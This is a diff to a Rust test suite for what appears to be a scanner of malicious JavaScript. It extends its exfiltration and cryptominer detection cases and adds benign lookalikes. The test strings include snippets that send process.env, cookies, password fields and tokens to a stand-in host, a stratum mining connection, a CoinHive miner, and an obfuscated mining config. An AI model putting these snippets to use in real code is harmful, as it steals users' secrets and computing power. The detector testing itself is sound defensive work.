@@ -267,22 +267,47 @@ fn network_and_exfiltration() {
         &[
             "fetch('https://evil.test', { method: 'POST', body: JSON.stringify(process.env) })",
             "const data = JSON.stringify(process.env); navigator.sendBeacon(u, data)",
-            "xhr.send(document.cookie)",
-            "const fs = require('fs'); req.write(fs.readFileSync(p))",
+            "const xhr = new XMLHttpRequest(); xhr.open('POST', u); xhr.send(document.cookie)",
+            "const fs = require('fs'); const req = require('https').request(u); req.write(fs.readFileSync(p))",
+            "const ws = new WebSocket(u); ws.send(JSON.stringify({ pw: document.querySelector('#pw').value }))",
+            "const https = require('https'); const req = https.request(o); const body = { t: localStorage.getItem('token') }; req.end(JSON.stringify(body))",
         ],
     );
+    // Benign twins: a server writing a file to its own response, a client that reads a flag
+    // from the environment in one function and posts unrelated data in another, a callback
+    // that reads a file inside a request handler.
+    for src in [
+        "const fs = require('fs'); require('http').createServer((q, res) => { res.end(fs.readFileSync('index.html')) })",
+        "function off() { return process.env.NO_TRACK } async function post(d) { const ws = new WebSocket(u); ws.send(JSON.stringify(d)) }",
+        "res.write(fs.readFileSync(p))",
+    ] {
+        let got = rule_ids(&scan(src));
+        assert!(!got.contains(&"exfiltration"), "{src}: {got:?}");
+    }
 }
 
 #[test]
 fn cryptominers() {
+    // A miner's identity together with its behaviour.
     fires(
         "cryptominer",
         &[
-            "const pool = 'stratum+tcp://pool.minexmr.com:4444'",
-            "var miner = new CoinHive.Anonymous('key'); miner.start();",
-            "loadWasm('cryptonight.wasm')",
+            "const pool = 'stratum+tcp://pool.example:4444'; const s = net.connect(3333); s.write(JSON.stringify({ method: 'mining.subscribe' })); let nonce = 0;",
+            "var miner = new CoinHive.Anonymous('key', { throttle: 0.3, threads: navigator.hardwareConcurrency }); miner.start();",
+            "WebAssembly.instantiate(buf).then(m => { for (let nonce = 0; ; nonce++) if (m.exports.cryptonight_hash(nonce) < target) post(nonce) })",
+            // decoded, the configuration is stratum
+            "const c = JSON.parse(atob('eyJtIjoibWluaW5nLnN1Ym1pdCJ9')); const ws = new WebSocket(u); ws.send({ method: c.m, nonce });",
         ],
     );
+    // Names alone (a process table, a blocklist) are a low signal, never a block.
+    for src in [
+        "const KNOWN = { xmrig: 'XMRig CPU miner', coinhive: 'Coinhive (defunct)' };",
+        "const blocked = ['stratum+tcp://', 'cryptonight'];",
+    ] {
+        let r = scan(src);
+        assert_eq!(rule_ids(&r), vec!["miner-name"], "{src}");
+        assert_eq!(r.verdict, Verdict::Allow, "{src}");
+    }
 }
 
 #[test]
